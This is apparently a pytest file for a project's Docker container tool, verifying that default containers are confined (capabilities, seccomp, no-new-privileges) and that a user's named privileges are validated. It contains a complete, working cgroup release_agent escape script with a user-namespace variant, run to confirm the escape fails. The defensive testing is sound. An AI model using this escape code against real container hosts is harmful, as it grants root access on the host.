"""A container created by this tool is not root on the host (issue 27, item 1), on the real Docker Engine.

Seen before the fix: ``create_container`` added ``SYS_ADMIN`` (host network, ipc=host); on a cgroup-v1 host without
AppArmor the classic release_agent escape from inside such a container ran a script on the host as root. Now the
default container has Docker's default capabilities minus three, ``no-new-privileges``, Docker's seccomp profile, its
own IPC namespace with a sized /dev/shm; the escape is attempted for real and fails at its first step (mount: EPERM),
and nothing appears on the host. Extra privileges exist only when the spec names them (the user approved them).
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import docker
import pytest
from target_helpers import unique_name

from verl_async_dapo import privileges
from verl_async_dapo.exceptions import InvalidTargetInput
from verl_async_dapo.targets.base import CreateSpec
from verl_async_dapo.targets.docker import DockerTarget, create_container

pytestmark = pytest.mark.docker

CAP_BITS = {
    "CHOWN": 0, "DAC_OVERRIDE": 1, "DAC_READ_SEARCH": 2, "FOWNER": 3, "FSETID": 4, "KILL": 5, "SETGID": 6,
    "SETUID": 7, "SETPCAP": 8, "LINUX_IMMUTABLE": 9, "NET_BIND_SERVICE": 10, "NET_BROADCAST": 11, "NET_ADMIN": 12,
    "NET_RAW": 13, "IPC_LOCK": 14, "IPC_OWNER": 15, "SYS_MODULE": 16, "SYS_RAWIO": 17, "SYS_CHROOT": 18,
    "SYS_PTRACE": 19, "SYS_PACCT": 20, "SYS_ADMIN": 21, "SYS_BOOT": 22, "SYS_NICE": 23, "SYS_RESOURCE": 24,
    "SYS_TIME": 25, "SYS_TTY_CONFIG": 26, "MKNOD": 27, "LEASE": 28, "AUDIT_WRITE": 29, "AUDIT_CONTROL": 30,
    "SETFCAP": 31, "MAC_OVERRIDE": 32, "MAC_ADMIN": 33, "SYSLOG": 34, "WAKE_ALARM": 35, "BLOCK_SUSPEND": 36,
    "AUDIT_READ": 37, "PERFMON": 38, "BPF": 39, "CHECKPOINT_RESTORE": 40,
}  # fmt: skip
# moby's default set (oci/caps/defaults.go) less privileges.DROPPED_CAPS.
DOCKER_DEFAULT = {"CHOWN", "DAC_OVERRIDE", "FSETID", "FOWNER", "MKNOD", "NET_RAW", "SETGID", "SETUID", "SETFCAP",
                  "SETPCAP", "NET_BIND_SERVICE", "SYS_CHROOT", "KILL", "AUDIT_WRITE"}  # fmt: skip
EXPECTED_CAPS = DOCKER_DEFAULT - set(privileges.DROPPED_CAPS)


def caps_of(status: str, field: str = "CapEff") -> set[str]:
    value = int(re.search(rf"^{field}:\s*([0-9a-f]+)$", status, re.M).group(1), 16)  # type: ignore[union-attr]
    return {name for name, bit in CAP_BITS.items() if value >> bit & 1}


def status_field(status: str, field: str) -> str:
    return re.search(rf"^{field}:\s*(\S+)$", status, re.M).group(1)  # type: ignore[union-attr]


async def _create(created: list[str], test_labels: dict[str, str], **spec: object) -> str:
    name = unique_name()
    created.append(name)
    await create_container(CreateSpec(name=name, gpus="none", network_mode="none", **spec),  # type: ignore[arg-type]
                           extra_labels=test_labels)  # fmt: skip
    return name


async def test_a_default_container_is_confined(
    docker_client: docker.DockerClient, created: list[str], test_image: str, test_labels: dict[str, str]
) -> None:
    name = await _create(created, test_labels, image=test_image)
    hc = docker_client.api.inspect_container(name)["HostConfig"]
    assert not hc.get("CapAdd") and hc["Privileged"] is False
    assert sorted(hc["CapDrop"]) == sorted(privileges.DROPPED_CAPS)
    assert hc["SecurityOpt"] == ["no-new-privileges"]
    assert "unconfined" not in json.dumps(hc)
    assert (hc["IpcMode"], hc["ShmSize"], hc["PidMode"], hc["NetworkMode"]) == ("private", 10 << 30, "", "none")
    limits = {u["Name"]: (u["Soft"], u["Hard"]) for u in hc.get("Ulimits") or []}
    assert limits["stack"] == (64 << 20, 64 << 20)
    assert limits.get("memlock") in ((-1, -1), None)
    target = DockerTarget(name)
    for pid in ("1", "self"):  # tini as PID 1 and a process exec'd later (where training runs)
        status = (await target.run(["cat", f"/proc/{pid}/status"])).stdout
        assert caps_of(status) == EXPECTED_CAPS, (pid, sorted(caps_of(status)))
        assert caps_of(status, "CapBnd") == EXPECTED_CAPS
        assert status_field(status, "NoNewPrivs") == "1"
        assert status_field(status, "Seccomp") == "2"  # filter mode: Docker's default profile is on


# The classic escape (Felix Wilhelm's): mount a cgroup-v1 hierarchy, set its release_agent to a script that lies
# in the container's upper layer (so its host path is known), mark a child cgroup notify_on_release and empty it:
# the kernel then runs the script on the host, as root. Also the CVE-2022-0492 variant: unshare a user namespace
# first to get capabilities inside it. Every step's outcome is recorded; the test says which one stopped it.
ESCAPE = r"""
import ctypes, errno, json, os, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)
host_payload, marker = sys.argv[1], sys.argv[2]
steps = {}
with open("/payload.sh", "w") as f:
    f.write("#!/bin/sh\ntouch " + marker + "\n")
os.chmod("/payload.sh", 0o755)
os.makedirs("/tmp/cgrp", exist_ok=True)
mounted = None
for sub in ("rdma", "misc", "pids", "memory", "freezer"):
    rc = libc.mount(b"cgroup", b"/tmp/cgrp", b"cgroup", 0, sub.encode())
    steps["mount " + sub] = "ok" if rc == 0 else errno.errorcode[ctypes.get_errno()]
    if rc == 0:
        mounted = sub
        break
CLONE_NEWNS, CLONE_NEWCGROUP, CLONE_NEWUSER = 0x00020000, 0x02000000, 0x10000000
pid = os.fork()
if pid == 0:  # the user-namespace variant, in a child so the parent keeps its namespaces
    rc = libc.unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)
    os._exit(0 if rc == 0 else ctypes.get_errno())
_, code = os.waitpid(pid, 0)
steps["unshare user+mount+cgroup ns"] = "ok" if os.WEXITSTATUS(code) == 0 else errno.errorcode[os.WEXITSTATUS(code)]
if mounted:
    child = "/tmp/cgrp/vad-escape"
    try:
        os.makedirs(child, exist_ok=True)
        with open(child + "/notify_on_release", "w") as f:
            f.write("1")
        with open("/tmp/cgrp/release_agent", "w") as f:
            f.write(host_payload)
        steps["release_agent"] = "written"
        subprocess.run(["sh", "-c", "echo $$ > " + child + "/cgroup.procs"], check=False)
        time.sleep(2)
    except OSError as exc:
        steps["release_agent"] = errno.errorcode.get(exc.errno, str(exc))
    finally:  # leave the host's hierarchy as it was, whatever happened
        for path, text in (("/tmp/cgrp/release_agent", "\n"),):
            try:
                with open(path, "w") as f:
                    f.write(text)
            except OSError:
                pass
        try:
            os.rmdir(child)
        except OSError:
            pass
print(json.dumps(steps))
"""


async def test_the_release_agent_escape_fails_from_a_default_container(
    docker_client: docker.DockerClient,
    created: list[str],
    test_image: str,
    test_labels: dict[str, str],
    tmp_path: Path,
) -> None:
    if not Path("/sys/fs/cgroup/memory").is_dir() and not Path("/sys/fs/cgroup/pids").is_dir():
        pytest.skip("this host has no cgroup-v1 hierarchies: the release_agent route does not exist here")
    name = await _create(created, test_labels, image=test_image)
    upper = docker_client.api.inspect_container(name)["GraphDriver"]["Data"]["UpperDir"]
    marker = tmp_path / "escaped-as-root-on-the-host"
    result = await DockerTarget(name).run(["python3", "-c", ESCAPE, f"{upper}/payload.sh", str(marker)], timeout=60)
    assert result.exit_code == 0, result
    steps = json.loads(result.stdout.strip().splitlines()[-1])
    mounts = {k: v for k, v in steps.items() if k.startswith("mount ")}
    assert mounts and set(mounts.values()) == {"EPERM"}, steps  # stopped at the first step, for every hierarchy
    assert steps["unshare user+mount+cgroup ns"] == "EPERM", steps  # seccomp: no namespaces without SYS_ADMIN
    assert "release_agent" not in steps, steps
    assert not marker.exists(), "the payload ran on the host"


async def test_privileges_exist_only_when_named(
    docker_client: docker.DockerClient, created: list[str], test_image: str, test_labels: dict[str, str]
) -> None:
    name = await _create(created, test_labels, image=test_image, privileges=("sys_ptrace", "host_ipc"))
    hc = docker_client.api.inspect_container(name)["HostConfig"]
    assert hc["CapAdd"] in (["SYS_PTRACE"], ["CAP_SYS_PTRACE"]) and hc["IpcMode"] == "host"
    # Docker adds label=disable (SELinux) beside ipc=host; ours is still there, nothing unconfined.
    assert "no-new-privileges" in hc["SecurityOpt"] and "unconfined" not in json.dumps(hc) and not hc["Privileged"]
    status = (await DockerTarget(name).run(["cat", "/proc/self/status"])).stdout
    assert caps_of(status) == EXPECTED_CAPS | {"SYS_PTRACE"}
    for bad in (("privileged",), ("SYS_MODULE",), ("seccomp=unconfined",)):
        with pytest.raises(InvalidTargetInput, match="unknown container privilege"):
            await create_container(CreateSpec(name=unique_name(), image=test_image, gpus="none", network_mode="none",
                                              privileges=bad))  # fmt: skip
    with pytest.raises(InvalidTargetInput, match="network_mode"):
        await create_container(CreateSpec(name=unique_name(), image=test_image, gpus="none", network_mode="host"))
